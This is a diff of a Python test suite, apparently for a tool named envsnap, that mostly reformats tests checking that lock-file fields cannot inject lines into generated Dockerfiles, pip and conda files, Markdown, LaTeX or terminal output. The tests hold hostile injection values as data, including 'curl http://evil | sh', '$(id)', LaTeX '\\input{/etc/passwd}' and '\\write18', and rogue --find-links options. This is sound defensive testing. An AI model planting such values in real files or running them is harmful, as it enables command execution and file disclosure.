@@ -59,18 +59,24 @@ def _wheel(name: str, version: str, digit: str) -> PythonPackage:
         name=name,
         version=version,
         installer="pip",
-        artifact=Artifact(filename=filename, url=f"https://files.example/{filename}", sha256=digit * 64,
-                          index="https://pypi.org/simple"),
+        artifact=Artifact(
+            filename=filename,
+            url=f"https://files.example/{filename}",
+            sha256=digit * 64,
+            index="https://pypi.org/simple",
+        ),
     )
 
 
 def lock(**meta: Any) -> Snapshot:
     """A small pinned CPU lock on Debian 12 (the docker target's default base: python:3.11.7-slim-bookworm)."""
     snap = sample_lock(
-        _wheel("markupsafe", "3.0.2", "a"), _wheel("tomli-w", "1.2.0", "b"),
+        _wheel("markupsafe", "3.0.2", "a"),
+        _wheel("tomli-w", "1.2.0", "b"),
         platform=sample_platform(os_name="Debian GNU/Linux 12 (bookworm)", kernel="6.1.0"),
-        system=System(manager="dpkg", packages=(
-            SystemPackage("dpkg", "libc6", "2.36-9+deb12u14", "amd64", ("markupsafe",)),)),
+        system=System(
+            manager="dpkg", packages=(SystemPackage("dpkg", "libc6", "2.36-9+deb12u14", "amd64", ("markupsafe",)),)
+        ),
         hardware=Hardware(cpu=Cpu(model="Some CPU", arch="x86_64", logical_cores=8)),
     )
     snap = lockfile.seal(snap)
@@ -125,14 +131,30 @@ def render(snap: Snapshot, **options: Any) -> str:
 def test_the_clean_lock_renders_the_expected_instructions() -> None:
     # The reference the hostile cases are compared with.
     keywords = [k for k, _ in instructions(render(lock()))]
-    assert keywords == ["FROM", "ARG", "ENV", "LABEL", "RUN", "COPY", "COPY", "RUN", "COPY", "COPY", "RUN", "ENV",
-                        "RUN"]
+    assert keywords == [
+        "FROM",
+        "ARG",
+        "ENV",
+        "LABEL",
+        "RUN",
+        "COPY",
+        "COPY",
+        "RUN",
+        "COPY",
+        "COPY",
+        "RUN",
+        "ENV",
+        "RUN",
+    ]
 
 
-@pytest.mark.parametrize("created", [
-    "2026-01-02T03:04:05Z" + '"' + INJECTED,  # the attack of issue 11: a standalone RUN line
-    "2026-01-02T03:04:05Z\r\nRUN id",
-])
+@pytest.mark.parametrize(
+    "created",
+    [
+        "2026-01-02T03:04:05Z" + '"' + INJECTED,  # the attack of issue 11: a standalone RUN line
+        "2026-01-02T03:04:05Z\r\nRUN id",
+    ],
+)
 def test_created_with_a_newline_is_refused(created: str) -> None:
     with pytest.raises(RebuildError) as exc:
         render(lock(created=created))
@@ -159,8 +181,9 @@ def test_python_version_cannot_reach_from(version: str) -> None:
     assert "FROM" in one_line_error(exc) or "control character" in str(exc.value)
 
 
-@pytest.mark.parametrize("image_id", ["sha256:" + "1" * 64 + INJECTED, "busybox" + INJECTED,
-                                      "sha256:" + "1" * 64 + " AS base"])
+@pytest.mark.parametrize(
+    "image_id", ["sha256:" + "1" * 64 + INJECTED, "busybox" + INJECTED, "sha256:" + "1" * 64 + " AS base"]
+)
 def test_a_bundled_image_id_is_checked_before_from(image_id: str) -> None:
     # images/*.json's id becomes the pin of a base image that has no registry digest.
     facts = ImageFacts(image_id=image_id, architecture="amd64")
@@ -170,17 +193,21 @@ def test_a_bundled_image_id_is_checked_before_from(image_id: str) -> None:
 
 
 def test_a_repo_digest_is_checked_before_from() -> None:
-    facts = ImageFacts(image_id="sha256:" + "1" * 64,
-                       repo_digests=("python@sha256:" + "2" * 64 + INJECTED,), architecture="amd64")
+    facts = ImageFacts(
+        image_id="sha256:" + "1" * 64, repo_digests=("python@sha256:" + "2" * 64 + INJECTED,), architecture="amd64"
+    )
     with pytest.raises(RebuildError):
         render(lock(), inspect=lambda ref: facts)
 
 
-@pytest.mark.parametrize("name,version,arch", [
-    ("libc6", "2.36-9\n", "amd64"),  # `$` matched before a trailing newline
-    ("libc6\n", "2.36-9", "amd64"),
-    ("libc6", "2.36-9", "amd64\n"),
-])
+@pytest.mark.parametrize(
+    "name,version,arch",
+    [
+        ("libc6", "2.36-9\n", "amd64"),  # `$` matched before a trailing newline
+        ("libc6\n", "2.36-9", "amd64"),
+        ("libc6", "2.36-9", "amd64\n"),
+    ],
+)
 def test_apt_pins_refuse_a_trailing_newline(name: str, version: str, arch: str) -> None:
     with pytest.raises(RebuildError):
         apt.pins((SystemPackage("dpkg", name, version, arch, ("markupsafe",)),), "x86_64")
@@ -198,7 +225,7 @@ def each_string_changed(value: Any, suffix: str, path: str = "") -> Iterator[tup
     elif isinstance(value, tuple):
         for i, item in enumerate(value):
             for where, new in each_string_changed(item, suffix, f"{path}[{i}]"):
-                yield where, (*value[:i], new, *value[i + 1:])
+                yield where, (*value[:i], new, *value[i + 1 :])
 
 
 def test_no_string_field_adds_an_instruction() -> None:
@@ -247,13 +274,16 @@ def test_bundle_requirements_refuse_a_version_with_lines() -> None:
     one_line_error(exc)
 
 
-@pytest.mark.parametrize("part,value", [
-    ("version", FIND_LINKS),
-    ("name", "markupsafe\n--find-links http://127.0.0.1:9/"),
-    ("sha256", "a" * 64 + "\nevilpkg==1.0"),
-    ("url", "https://files.example/x.whl\n--find-links http://127.0.0.1:9/"),
-    ("index", "https://pypi.org/simple\n--find-links http://127.0.0.1:9/"),
-])
+@pytest.mark.parametrize(
+    "part,value",
+    [
+        ("version", FIND_LINKS),
+        ("name", "markupsafe\n--find-links http://127.0.0.1:9/"),
+        ("sha256", "a" * 64 + "\nevilpkg==1.0"),
+        ("url", "https://files.example/x.whl\n--find-links http://127.0.0.1:9/"),
+        ("index", "https://pypi.org/simple\n--find-links http://127.0.0.1:9/"),
+    ],
+)
 def test_requirements_export_refuses_injected_lines(part: str, value: str) -> None:
     snap = lock()
     pkg = snap.python.packages[0]
@@ -281,11 +311,14 @@ def test_valid_requirements_still_render() -> None:
     assert "markupsafe==3.0.2 \\\n    --hash=sha256:" + "a" * 64 in text
 
 
-@pytest.mark.parametrize("extra", [
-    "--find-links http://127.0.0.1:9/",
-    "evilpkg==1.0 --hash=sha256:" + "e" * 64 + " -i x",
-    "  --index-url http://127.0.0.1:9/",
-])
+@pytest.mark.parametrize(
+    "extra",
+    [
+        "--find-links http://127.0.0.1:9/",
+        "evilpkg==1.0 --hash=sha256:" + "e" * 64 + " -i x",
+        "  --index-url http://127.0.0.1:9/",
+    ],
+)
 def test_a_bundles_tool_requirements_add_no_option(tmp_path: Path, extra: str) -> None:
     # tool/requirements.txt is copied into the image's build context and read by pip there.
     root = tmp_path / "bundle"
@@ -317,19 +350,30 @@ def test_pylock_environment_marker_cannot_gain_a_clause(machine: str) -> None:
 
 
 def conda_lock_snapshot(**package: str) -> Snapshot:
-    values = {"name": "zlib", "version": "1.3.1", "build": "h4ab18f5_1", "channel": "https://conda.anaconda.org/c",
-              "subdir": "linux-64", "url": "https://conda.anaconda.org/c/linux-64/zlib-1.3.1-h4ab18f5_1.conda",
-              "md5": "0" * 32, "sha256": "1" * 64} | package
+    values = {
+        "name": "zlib",
+        "version": "1.3.1",
+        "build": "h4ab18f5_1",
+        "channel": "https://conda.anaconda.org/c",
+        "subdir": "linux-64",
+        "url": "https://conda.anaconda.org/c/linux-64/zlib-1.3.1-h4ab18f5_1.conda",
+        "md5": "0" * 32,
+        "sha256": "1" * 64,
+    } | package
     pkg = CondaPackage(**values)  # type: ignore[arg-type]
-    return dataclasses.replace(lock(), conda=Conda(subdir="linux-64", channels=("https://conda.anaconda.org/c",),
-                                                   packages=(pkg,)))
+    return dataclasses.replace(
+        lock(), conda=Conda(subdir="linux-64", channels=("https://conda.anaconda.org/c",), packages=(pkg,))
+    )
 
 
-@pytest.mark.parametrize("field,value", [
-    ("url", "https://conda.anaconda.org/c/linux-64/zlib.conda\nhttps://evil.example/evil.conda"),
-    ("md5", "0" * 32 + "\nhttps://evil.example/evil.conda"),
-    ("url", "https://conda.anaconda.org/c/linux-64/zlib.conda#" + "f" * 32),
-])
+@pytest.mark.parametrize(
+    "field,value",
+    [
+        ("url", "https://conda.anaconda.org/c/linux-64/zlib.conda\nhttps://evil.example/evil.conda"),
+        ("md5", "0" * 32 + "\nhttps://evil.example/evil.conda"),
+        ("url", "https://conda.anaconda.org/c/linux-64/zlib.conda#" + "f" * 32),
+    ],
+)
 def test_conda_explicit_refuses_line_injection(field: str, value: str) -> None:
     with pytest.raises(ExportError) as exc:
         conda_explicit.dumps(conda_lock_snapshot(**{field: value}))
@@ -339,8 +383,9 @@ def test_conda_explicit_refuses_line_injection(field: str, value: str) -> None:
 def test_conda_explicit_subdir_cannot_add_a_line() -> None:
     snap = conda_lock_snapshot()
     assert snap.conda is not None
-    hostile = dataclasses.replace(snap, conda=dataclasses.replace(
-        snap.conda, subdir="linux-64\nhttps://evil.example/evil.conda"))
+    hostile = dataclasses.replace(
+        snap, conda=dataclasses.replace(snap.conda, subdir="linux-64\nhttps://evil.example/evil.conda")
+    )
     with pytest.raises(ExportError):
         conda_explicit.dumps(hostile)
 
@@ -361,8 +406,9 @@ def test_environment_yml_pip_lines_are_checked_for_pip() -> None:
 
 def test_environment_yml_comment_cannot_end_early() -> None:
     snap = conda_lock_snapshot()
-    hostile = dataclasses.replace(snap, envsnap=dataclasses.replace(
-        snap.envsnap, content_digest="sha256:x\ndependencies: [evil]"))
+    hostile = dataclasses.replace(
+        snap, envsnap=dataclasses.replace(snap.envsnap, content_digest="sha256:x\ndependencies: [evil]")
+    )
     text = environment_yml.dumps(hostile)
     assert "\ndependencies: [evil]" not in text
     assert [line for line in text.splitlines() if line.startswith("dependencies")] == ["dependencies:"]
@@ -385,8 +431,9 @@ def every_string(value: Any, suffix: str) -> Any:
     if isinstance(value, str):
         return value + suffix
     if dataclasses.is_dataclass(value) and not isinstance(value, type):
-        return dataclasses.replace(value, **{f.name: every_string(getattr(value, f.name), suffix)
-                                             for f in dataclasses.fields(value) if f.init})
+        return dataclasses.replace(
+            value, **{f.name: every_string(getattr(value, f.name), suffix) for f in dataclasses.fields(value) if f.init}
+        )
     if isinstance(value, tuple):
         return tuple(every_string(v, suffix) for v in value)
     if isinstance(value, MappingProxyType):
@@ -400,12 +447,21 @@ def full_lock() -> Snapshot:
     return dataclasses.replace(
         snap,
         nvidia=Nvidia(driver_version="550.54.15", cuda_driver_version="12.4"),
-        hardware=Hardware(cpu=Cpu(model="Some CPU", arch="x86_64", logical_cores=8), memory_mib=65536,
-                          gpus=(Gpu(index=0, name="NVIDIA A100", compute_capability="8.0", memory_mib=40960),)),
-        cuda=Cuda(runtime_version="12.4.127", runtime_source="pip", cudnn_version="9.1.0", cudnn_source="pip",
-                  nccl_version="2.20.5", nccl_source="pip", toolkit_version="12.4"),
-        frameworks=MappingProxyType({"markupsafe": Framework(name="markupsafe", version="3.0.2",
-                                                             cuda_version="12.4")}),
+        hardware=Hardware(
+            cpu=Cpu(model="Some CPU", arch="x86_64", logical_cores=8),
+            memory_mib=65536,
+            gpus=(Gpu(index=0, name="NVIDIA A100", compute_capability="8.0", memory_mib=40960),),
+        ),
+        cuda=Cuda(
+            runtime_version="12.4.127",
+            runtime_source="pip",
+            cudnn_version="9.1.0",
+            cudnn_source="pip",
+            nccl_version="2.20.5",
+            nccl_source="pip",
+            toolkit_version="12.4",
+        ),
+        frameworks=MappingProxyType({"markupsafe": Framework(name="markupsafe", version="3.0.2", cuda_version="12.4")}),
         project=Project(vcs="git", commit="0" * 40, branch="main"),
     )
 
@@ -422,8 +478,9 @@ def test_no_field_of_the_lock_can_start_a_latex_line() -> None:
     assert "\\input{/etc/passwd}" not in text
 
 
-def test_no_field_of_the_lock_reaches_the_terminal_raw(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch,
-                                                        wide: None) -> None:
+def test_no_field_of_the_lock_reaches_the_terminal_raw(
+    cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, wide: None
+) -> None:
     loads(monkeypatch, {"x.lock": every_string(full_lock(), ESC + "[/]")})
     result = cli("show", "x.lock")
     assert result.code == 0, result
@@ -434,8 +491,12 @@ def markdown(snap: Snapshot) -> str:
     return appendix.render_markdown(snap)["appendix.md"].decode()
 
 
-HEADINGS = ["## Software and hardware environment", "### Computational environment", "### Python packages (2)",
-            "### Reproducing this environment"]
+HEADINGS = [
+    "## Software and hardware environment",
+    "### Computational environment",
+    "### Python packages (2)",
+    "### Reproducing this environment",
+]
 
 
 def test_a_newline_in_a_field_injects_no_heading_or_row() -> None:
@@ -461,12 +522,10 @@ def test_the_digest_code_span_cannot_be_closed() -> None:
 def test_the_bundle_readme_quotes_shell_lines_and_markdown() -> None:
     snap = changed(lock(), "python", version="3.11; curl http://evil | sh #.7")
     snap = dataclasses.replace(snap, envsnap=dataclasses.replace(snap.envsnap, generator="x\n# Owned"))
-    text = _templates.render("bundle/README.md.j2", lock=snap, packages=list(snap.python.packages),
-                             conda_archives=[])
+    text = _templates.render("bundle/README.md.j2", lock=snap, packages=list(snap.python.packages), conda_archives=[])
     assert "    'python3.11; curl http://evil | sh #' -m venv ./env" in text
     assert not any(line.startswith("# Owned") for line in text.splitlines())
-    conda = _templates.render("bundle/README.md.j2", lock=snap, packages=[],
-                              conda_archives=['a"$(id)`x`.conda'])
+    conda = _templates.render("bundle/README.md.j2", lock=snap, packages=[], conda_archives=['a"$(id)`x`.conda'])
     assert '"file://$PWD/conda/a\\"\\$(id)\\`x\\`.conda"' in conda
 
 
@@ -478,8 +537,9 @@ def latex(snap: Snapshot) -> str:
 
 
 def test_latex_comment_and_fields_cannot_inject_commands() -> None:
-    hostile = changed(lock(content_digest="sha256:x\n\\input{/etc/passwd}"), "platform",
-                      kernel="6.1\n\\immediate\\write18{id}")
+    hostile = changed(
+        lock(content_digest="sha256:x\n\\input{/etc/passwd}"), "platform", kernel="6.1\n\\immediate\\write18{id}"
+    )
     text = latex(hostile)
     assert "\\input{/etc/passwd}" not in text and "\\immediate\\write18" not in text
     assert not any(line.startswith("\\input") for line in text.splitlines())
@@ -514,9 +574,16 @@ def test_double_hyphens_survive_t1_fontenc(tmp_path: Path) -> None:
     (tmp_path / "paper.tex").write_text(
         "\\pdfcompresslevel=0\n\\pdfobjcompresslevel=0\n\\documentclass{article}\n\\usepackage[T1]{fontenc}\n"
         "\\usepackage{booktabs}\n\\usepackage{longtable}\n\\begin{document}\n\\input{appendix}\n"
-        "\\texttt{bad --control}\n\\end{document}\n", encoding="utf-8")
-    result = subprocess.run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "paper.tex"],
-                            cwd=tmp_path, capture_output=True, text=True, timeout=120)
+        "\\texttt{bad --control}\n\\end{document}\n",
+        encoding="utf-8",
+    )
+    result = subprocess.run(
+        ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "paper.tex"],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode == 0, result.stdout[-2000:]
     text = _pdf_text((tmp_path / "paper.pdf").read_bytes())
     assert "\N{EN DASH}control" in text  # the check sees the ligature T1 makes of a raw "--"
@@ -564,8 +631,7 @@ def test_check_prints_markup_literally(cli: Callable[..., Any], monkeypatch: pyt
     assert "\x1b" not in result.out and "x86_64[/]" in result.out
 
 
-def test_diff_strips_control_characters(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch,
-                                        wide: None) -> None:
+def test_diff_strips_control_characters(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, wide: None) -> None:
     a = lock()
     b = with_package(a, 0, version="3.0.3" + ESC + MARKUP)
     loads(monkeypatch, {"a.lock": a, "b.lock": b})
@@ -575,7 +641,8 @@ def test_diff_strips_control_characters(cli: Callable[..., Any], monkeypatch: py
 
 
 def test_errors_from_lock_data_reach_the_terminal_without_control_codes(
-        cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch) -> None:
+    cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
     def load(path: str, *args: Any, **kwargs: Any) -> Snapshot:
         raise LockfileError(f"{path}: bad name 'x{ESC}'")
 
@@ -585,8 +652,9 @@ def test_errors_from_lock_data_reach_the_terminal_without_control_codes(
     assert "\x1b" not in result.err and result.err.count("\n") == 1
 
 
-def test_a_rebuild_plan_is_printed_without_control_codes(cli: Callable[..., Any],
-                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_rebuild_plan_is_printed_without_control_codes(
+    cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
     import envsnap.rebuild
     from envsnap.rebuild.interface import PlanData
 
@@ -594,8 +662,14 @@ def test_a_rebuild_plan_is_printed_without_control_codes(cli: Callable[..., Any]
         def display(self) -> dict[str, str]:
             return {"Dockerfile": "FROM x\nRUN " + ESC}
 
-    plan = Plan(target="venv", lock_path="x.lock", dest="env", notes=("note " + ESC + MARKUP,),
-                items=(PlanItem("python", "pkg" + ESC, "1.0"),), data=Shown())
+    plan = Plan(
+        target="venv",
+        lock_path="x.lock",
+        dest="env",
+        notes=("note " + ESC + MARKUP,),
+        items=(PlanItem("python", "pkg" + ESC, "1.0"),),
+        data=Shown(),
+    )
     monkeypatch.setattr(envsnap.rebuild, "rebuild", lambda *a, **k: plan)  # the command imports it when it runs
     result = cli("rebuild", "x.lock", "--dry-run")
     assert result.code == 0, result
@@ -612,8 +686,9 @@ def test_rich_progress_lines_are_text(capsys: pytest.CaptureFixture[str], wide: 
     assert "\x1b" not in captured and captured.count(MARKUP) == 2 and "x86_64[/]" in captured
 
 
-def test_import_warnings_are_text(cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
-                                  wide: None) -> None:
+def test_import_warnings_are_text(
+    cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, wide: None
+) -> None:
     from envsnap import importers
 
     snap = lock(warnings=(MARKUP + ESC,))
